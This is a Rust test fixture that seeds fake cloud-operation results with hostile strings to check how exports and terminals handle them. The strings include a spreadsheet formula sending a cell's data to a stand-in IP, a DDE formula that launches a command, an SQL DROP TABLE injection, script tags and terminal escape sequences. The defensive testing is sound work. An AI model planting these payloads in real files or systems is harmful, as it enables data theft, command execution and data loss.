//! Texts that break what does not expect them, in every place where a service answers text.

use super::{Entity, alidns_entity, bpstudio_entity, ros_entity};
use crate::sandbox::call::BatchType;
use crate::sandbox::world::{
    BatchSpec, BatchState, BpSpec, BpState, RosSpec, Row, RowState, Rows, Schedule, Word, World,
};

/// Texts for spreadsheets, CSV, terminals, JSON and XML to trip over. Besides these the scenario
/// has [`long_text`].
pub const HOSTILE_TEXTS: [&str; 20] = [
    "",
    " ",
    "NULL",
    "=HYPERLINK(\"http://192.0.2.1/?\"&A1,\"click\")",
    "+1+1",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1",
    "one\ntwo\r\nthree\rfour",
    "\"quoted\", and 'quoted', and \\ \"\"",
    "a,b;c|d",
    "\u{1b}[31mred\u{1b}[0m\u{1b}]52;c;aGk=\u{7}",
    "\u{202e}gnp.exe\u{202c}\u{2066}x\u{2069}",
    "zero\u{200b}width\u{feff}",
    "资源栈创建失败：配额不足",
    "e\u{301} \u{1f468}\u{200d}\u{1f469}\u{200d}\u{1f467} ﷽",
    "<script>alert(1)</script>&amp;]]>",
    "{\"Status\":\"FAILED\",\"RequestId\":\"00000000-0000-0000-0000-000000000000\"}",
    "'; DROP TABLE operations; --",
    "C1\u{85}\u{9b}31m DEL\u{7f}",
];

/// A text of 40,000 bytes: longer than a spreadsheet's cell.
pub fn long_text() -> String {
    "0123456789abcde\n".repeat(2_500)
}

/// The ids of the hostile world.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct HostileIds {
    /// Every text is the reason of a result; the last one is [`long_text`].
    pub ros: String,
    /// Every text, one after the other, is the operation's message and arguments.
    pub bpstudio: String,
    /// A task with a hostile reason.
    pub batch_task_id: i64,
}

impl HostileIds {
    /// The same as a list.
    pub fn entities(&self) -> Vec<Entity> {
        vec![
            ros_entity("hostile reasons", &self.ros),
            bpstudio_entity("hostile messages", &self.bpstudio),
            alidns_entity("hostile reason", self.batch_task_id),
        ]
    }
}

/// Puts the hostile world in, for that account, beginning now.
pub fn hostile(world: &World, account_id: &str) -> HostileIds {
    HostileIds {
        ros: world.add_ros_operation(ros(world, account_id)),
        bpstudio: world.add_bpstudio(bpstudio(world, account_id)),
        batch_task_id: world.add_batch(batch(world, account_id)),
    }
}

fn texts() -> impl Iterator<Item = Word> {
    let texts = HOSTILE_TEXTS.into_iter().map(Word::from);
    texts.chain([Word::from(long_text())])
}

fn ros(world: &World, account_id: &str) -> RosSpec {
    let now = world.now();
    let status = Schedule::starting(now, Word::from("RUNNING")).then(60_000, "FAILED".into());
    let mut spec = RosSpec::new(account_id, status);
    spec.stack_group_name = "=cmd|' /C calc'!A0".to_owned();
    spec.description = Some("-1+1\n\u{1b}[2J".to_owned());
    spec.one_digit_seconds = true;
    let rows = (0_u64..).zip(texts()).map(|(number, text)| Row {
        account_id: (1_700_000_000_000_000 + number).to_string(),
        region_id: "cn-hangzhou".to_owned(),
        folder_id: None,
        history: Schedule::starting(now, Some(RowState::of("RUNNING")))
            .then(60_000, Some(RowState::because("FAILED", text))),
    });
    spec.rows = Rows::Listed(rows.collect());
    spec
}

fn bpstudio(world: &World, account_id: &str) -> BpSpec {
    let mut states = Schedule::starting(world.now(), BpState::of("INIT"));
    for text in texts() {
        let mut state = BpState::of("running\n");
        state.message = text.clone();
        state.arguments = text;
        states = states.then(60_000, state);
    }
    BpSpec {
        account_id: account_id.to_owned(),
        operation_id: None,
        states: states.then(60_000, BpState::of("failure\n")),
    }
}

fn batch(world: &World, account_id: &str) -> BatchSpec {
    let state = BatchState {
        status: 2,
        total_count: 4,
        success_count: 1,
        failed_count: 3,
        reason: Some(("=1+1\n失败".into(), "=1+1\nfailed".into())),
    };
    BatchSpec {
        account_id: account_id.to_owned(),
        task_id: None,
        batch_type: BatchType::DomainDel,
        states: Schedule::starting(world.now(), state),
    }
}
